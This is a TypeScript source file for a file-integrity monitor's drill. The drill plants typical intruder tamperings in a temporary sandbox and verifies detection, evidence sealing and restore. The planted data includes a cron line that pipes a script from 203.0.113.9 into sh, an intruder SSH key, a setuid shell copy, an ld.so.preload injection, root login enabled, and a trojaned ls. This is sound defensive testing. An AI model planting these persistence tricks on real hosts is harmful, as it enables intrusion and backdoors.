import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { RunContext } from '../util/context.js';

/** One step of the drill and whether it passed. */
export interface DrillStep {
  step: string;
  ok: boolean;
  detail: string;
}

/** One planted tampering and whether the check caught it as expected. */
export interface DrillPlant {
  name: string;
  path: string;
  expect: 'added' | 'changed';
  detected: boolean;
  severity: string | null;
}

export interface DrillResult {
  planted: number;
  detected: number;
  evidence_verified: boolean;
  restored: boolean;
  seconds: number;
  steps: DrillStep[];
  plants: DrillPlant[];
  bundle: { path: string; sha256: string } | null;
  timeline_events: number;
  /** kept with --keep, else removed */
  sandbox: string | null;
  exitCode: number;
}

export interface DrillOptions {
  keep: boolean;
  /** parent of the private sandbox (default: the OS temp folder) */
  tmp?: string;
}

/** The small system the drill builds: realistic files under the sandbox's root. */
const TREE: Record<string, { data: string; mode: number }> = {
  'etc/passwd': {
    data: 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n',
    mode: 0o644,
  },
  'etc/ssh/sshd_config': { data: 'Port 22\nPermitRootLogin no\nPasswordAuthentication no\nPubkeyAuthentication yes\nUsePAM yes\n', mode: 0o644 },
  'etc/crontab': { data: 'SHELL=/bin/sh\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n', mode: 0o644 },
  'etc/cron.d/e2scrub_all': { data: '30 3 * * 0 root test -e /run/systemd/system || /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n', mode: 0o644 },
  'etc/ld.so.conf': { data: 'include /etc/ld.so.conf.d/*.conf\n', mode: 0o644 },
  'root/.ssh/authorized_keys': { data: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHdrillAdminKeyOnlyForTheDrill0000000000 admin@bastion\n', mode: 0o600 },
  'usr/bin/ls': { data: '#!/bin/sh\n# stand-in for a system binary in the drill sandbox\nexec /bin/ls "$@"\n', mode: 0o755 },
  'usr/bin/sh': { data: '\x7fELF stand-in shell for the drill\n', mode: 0o755 },
  'usr/local/bin/backup.sh': { data: '#!/bin/sh\ntar czf /var/backups/etc.tgz /etc\n', mode: 0o755 },
};

const POLICY = `# integ drill: a small copy of the default policy, applied under the sandbox's root
version: 1
hash: blake3
rules:
  - name: system-config
    severity: high
    paths: ["/etc/**"]
    keep_content: true
  - name: system-binaries
    severity: critical
    paths: ["/usr/bin/**", "/usr/local/bin/**"]
  - name: identity-and-access
    severity: critical
    paths: ["/etc/passwd", "/etc/ssh/**", "/root/.ssh/**", /etc/ld.so.preload, /etc/ld.so.conf]
    keep_content: true
  - name: scheduled-jobs
    severity: critical
    paths: ["/etc/crontab", "/etc/cron.*/**"]
    keep_content: true
on_alert:
  snapshot: true
  cooldown: 0
  copy_max_file_bytes: 1MiB
  copy_max_total_bytes: 16MiB
`;

/** The tamperings an intruder typically leaves, each asserted to have changed what it targets. */
function plantAll(root: string): DrillPlant[] {
  const p = (rel: string): string => path.join(root, rel);
  const plants: { name: string; rel: string; expect: 'added' | 'changed'; act: () => void; proof: () => boolean }[] = [
    {
      name: 'set-uid copy of a shell',
      rel: 'usr/local/bin/.sshd-helper',
      expect: 'added',
      act: () => {
        fs.copyFileSync(p('usr/bin/sh'), p('usr/local/bin/.sshd-helper'));
        fs.chmodSync(p('usr/local/bin/.sshd-helper'), 0o4755);
      },
      proof: () => (fs.lstatSync(p('usr/local/bin/.sshd-helper')).mode & 0o4000) !== 0,
    },
    {
      name: 'cron job fetching a payload',
      rel: 'etc/cron.d/0sysupdate',
      expect: 'added',
      act: () => fs.writeFileSync(p('etc/cron.d/0sysupdate'), '*/5 * * * * root curl -fsS http://203.0.113.9/u.sh | sh\n', { mode: 0o644 }),
      proof: () => fs.readFileSync(p('etc/cron.d/0sysupdate'), 'utf8').includes('203.0.113.9'),
    },
    {
      name: 'authorized_keys line for the intruder',
      rel: 'root/.ssh/authorized_keys',
      expect: 'changed',
      act: () => fs.appendFileSync(p('root/.ssh/authorized_keys'), 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDintruder000000000000 x@203.0.113.9\n'),
      proof: () => fs.readFileSync(p('root/.ssh/authorized_keys'), 'utf8').includes('x@203.0.113.9'),
    },
    {
      name: 'ld.so.preload library injection',
      rel: 'etc/ld.so.preload',
      expect: 'added',
      act: () => fs.writeFileSync(p('etc/ld.so.preload'), '/usr/lib/x86_64-linux-gnu/libsystemd-shim.so\n', { mode: 0o644 }),
      proof: () => fs.existsSync(p('etc/ld.so.preload')),
    },
    {
      name: 'changed configuration (root login allowed)',
      rel: 'etc/ssh/sshd_config',
      expect: 'changed',
      act: () =>
        fs.writeFileSync(p('etc/ssh/sshd_config'), fs.readFileSync(p('etc/ssh/sshd_config'), 'utf8').replace('PermitRootLogin no', 'PermitRootLogin yes')),
      proof: () => fs.readFileSync(p('etc/ssh/sshd_config'), 'utf8').includes('PermitRootLogin yes'),
    },
    {
      name: 'trojaned system binary',
      rel: 'usr/bin/ls',
      expect: 'changed',
      act: () => fs.writeFileSync(p('usr/bin/ls'), '#!/bin/sh\n/bin/ls "$@" | grep -v .sshd-helper\n'),
      proof: () => fs.readFileSync(p('usr/bin/ls'), 'utf8').includes('grep -v'),
    },
  ];
  const out: DrillPlant[] = [];
  for (const x of plants) {
    x.act();
    if (!x.proof()) throw new Error(`planting "${x.name}" did not change ${x.rel}`);
    out.push({ name: x.name, path: `/${x.rel}`, expect: x.expect, detected: false, severity: null });
  }
  return out;
}

/**
 * Rehearse the whole chain in a private temporary sandbox, through the real code: build a small
 * tree and policy, baseline, a clean check, plant tamperings, check with evidence on alert,
 * verify the sealed bundle, restore the changed configuration, check again, note and timeline.
 * Nothing outside the sandbox is written; the host's /proc is only read (by the snapshot).
 */
export async function runDrill(opts: DrillOptions, ctx: RunContext): Promise<DrillResult> {
  const started = Date.now();
  const steps: DrillStep[] = [];
  let plants: DrillPlant[] = [];
  let bundle: DrillResult['bundle'] = null;
  let evidenceVerified = false;
  let restored = false;
  let timelineEvents = 0;
  const sandbox = fs.mkdtempSync(path.join(opts.tmp ?? os.tmpdir(), 'integ-drill-'));
  fs.chmodSync(sandbox, 0o700);
  const root = path.join(sandbox, 'root');
  const db = path.join(sandbox, 'integ.db');
  const out = path.join(sandbox, 'evidence');
  const policy = path.join(sandbox, 'policy.yml');
  // Settings from the environment must not send the drill's output anywhere else.
  const env: NodeJS.ProcessEnv = { ...ctx.env, INTEG_DB: db, INTEG_EVIDENCE: out, INTEG_POLICY: policy };
  const c: RunContext = { ...ctx, env };
  const step = async (name: string, fn: () => Promise<string> | string): Promise<boolean> => {
    try {
      const detail = await fn();
      steps.push({ step: name, ok: true, detail });
      return true;
    } catch (e) {
      if (ctx.signal.aborted) throw e;
      steps.push({ step: name, ok: false, detail: (e as Error).message.split('\n').slice(0, 3).join(' ') });
      ctx.log.warn({ step: name, err: (e as Error).message }, 'drill step failed');
      return false;
    }
  };
  try {
    await step('build a sandbox tree and policy', () => {
      for (const [rel, f] of Object.entries(TREE)) {
        fs.mkdirSync(path.dirname(path.join(root, rel)), { recursive: true, mode: 0o755 });
        fs.writeFileSync(path.join(root, rel), f.data, { mode: f.mode });
        fs.chmodSync(path.join(root, rel), f.mode);
      }
      fs.writeFileSync(policy, POLICY, { mode: 0o600 });
      return `${Object.keys(TREE).length} files under ${root}`;
    });
    const { runBaseline } = await import('./baseline.js');
    const { runCheck: scan, recordCheckRun } = await import('./check.js');
    // What `integ check` does: compare, then on an alert seal evidence, then record the run.
    const runCheck = async (o: { snapshot: boolean }): Promise<import('./check.js').CheckResult> => {
      const r = await scan({ policy, db, root, jobs: 1 }, c);
      const { isAlert } = await import('../core/verdict.js');
      if (o.snapshot && isAlert(r.summary)) {
        const { captureOnAlert } = await import('./alert.js');
        const { checkJson } = await import('../report/check-report.js');
        r.evidence = await captureOnAlert(r, checkJson(r), { snapshot: true, out, db }, c);
      }
      recordCheckRun(r, db);
      return r;
    };
    const baselineOk = await step('baseline', async () => {
      const b = await runBaseline({ policy, db, note: 'integ drill', root, jobs: 1 }, c);
      if (b.exitCode !== 0) throw new Error(`baseline exited ${b.exitCode}`);
      return `generation #${b.generation.id}: ${b.entries} entries, ${b.generation.digest.slice(0, 23)}…`;
    });
    if (baselineOk) {
      await step('clean check before tampering (no false alarm)', async () => {
        const r = await runCheck({ snapshot: false });
        if (r.exitCode !== 0) throw new Error(`check found ${r.findings.length} difference(s) on an untouched tree (exit ${r.exitCode})`);
        return `${r.summary.scanned} scanned, exit 0`;
      });
      await step('plant tamperings', () => {
        plants = plantAll(root);
        return plants.map((p) => p.name).join('; ');
      });
      await step('check detects every tampering and seals evidence', async () => {
        const r = await runCheck({ snapshot: true });
        for (const p of plants) {
          const f = r.findings.find((x) => x.path.toString('utf8') === p.path);
          p.detected = Boolean(f && f.kind === p.expect);
          p.severity = f?.severity ?? null;
        }
        if (r.evidence) bundle = { path: r.evidence.bundle, sha256: r.evidence.sha256 };
        const missed = plants.filter((p) => !p.detected);
        if (missed.length) throw new Error(`missed: ${missed.map((p) => p.path).join(', ')}`);
        if (!r.evidence) throw new Error(`no evidence bundle sealed (${r.notices.join('; ') || 'unknown reason'})`);
        return `${plants.length}/${plants.length} detected (exit ${r.exitCode}); bundle ${path.basename(r.evidence.bundle)}`;
      });
      await step('verify the sealed bundle', async () => {
        if (!bundle) throw new Error('no bundle to verify');
        const { verifyBundle } = await import('../evidence/verify.js');
        const v = await verifyBundle(bundle.path, {}, c);
        if (!v.ok) throw new Error(`${v.problems.length} problem(s): ${v.problems.map((p) => `${p.kind} ${p.file ?? ''}`).join(', ')}`);
        const { readBundle } = await import('../evidence/bundle-reader.js');
        const b = await readBundle(bundle.path, { maxBytes: 256 * 1024 * 1024 });
        const report = b.files.get('check/report.json');
        if (!report) throw new Error('the bundle has no check/report.json');
        const paths = new Set((JSON.parse(report.toString('utf8')).changes as { path: string }[]).map((x) => x.path));
        const absent = plants.filter((p) => !paths.has(p.path));
        if (absent.length) throw new Error(`the bundle's check report lacks ${absent.map((p) => p.path).join(', ')}`);
        const copies = [...b.files.keys()].filter((k) => k.startsWith('changed-files/')).length;
        evidenceVerified = true;
        return `${v.files} files match SHA256SUMS and the manifest; ${copies} changed file(s) copied; sha256 ${bundle.sha256.slice(0, 16)}…`;
      });
      await step('restore the changed configuration from kept content', async () => {
        const { runRestore } = await import('./restore.js');
        const r = await runRestore({ paths: [Buffer.from('/etc/ssh/sshd_config')], note: 'integ drill: restore', root, dryRun: false, db, out, policy }, c);
        const now = fs.readFileSync(path.join(root, 'etc/ssh/sshd_config'), 'utf8');
        if (now !== TREE['etc/ssh/sshd_config']!.data) throw new Error('the file was not put back');
        const again = await runCheck({ snapshot: false });
        if (again.findings.some((f) => f.path.toString('utf8') === '/etc/ssh/sshd_config')) throw new Error('the next check still reports it');
        restored = true;
        return `generation #${r.generation?.id} (restore); suspect copy sealed in ${path.basename(r.bundle?.path ?? '-')}; next check clean for it`;
      });
      await step('note and timeline', async () => {
        const { runNote } = await import('./note.js');
        await runNote({ text: 'integ drill: rehearsal complete', db }, c);
        const { buildTimeline } = await import('./timeline.js');
        const t = await buildTimeline({ db }, c);
        const { timelineCsv } = await import('../report/timeline-report.js');
        fs.writeFileSync(path.join(sandbox, 'timeline.csv'), timelineCsv(t), { mode: 0o600 });
        timelineEvents = t.events.length;
        const missing = plants.filter((p) => !t.events.some((e) => e.source === 'finding' && e.path === p.path));
        if (missing.length) throw new Error(`timeline lacks ${missing.map((p) => p.path).join(', ')}`);
        if (!t.events.some((e) => e.source === 'note')) throw new Error('timeline lacks the note');
        return `${t.events.length} events, every planted path and the note in order`;
      });
    }
  } finally {
    if (!opts.keep) fs.rmSync(sandbox, { recursive: true, force: true });
  }
  const detected = plants.filter((p) => p.detected).length;
  const allOk = steps.every((s) => s.ok) && plants.length >= 5 && detected === plants.length && evidenceVerified;
  return {
    planted: plants.length,
    detected,
    evidence_verified: evidenceVerified,
    restored,
    seconds: (Date.now() - started) / 1000,
    steps,
    plants,
    bundle: opts.keep ? bundle : null,
    timeline_events: timelineEvents,
    sandbox: opts.keep ? sandbox : null,
    exitCode: allOk ? 0 : 1,
  };
}
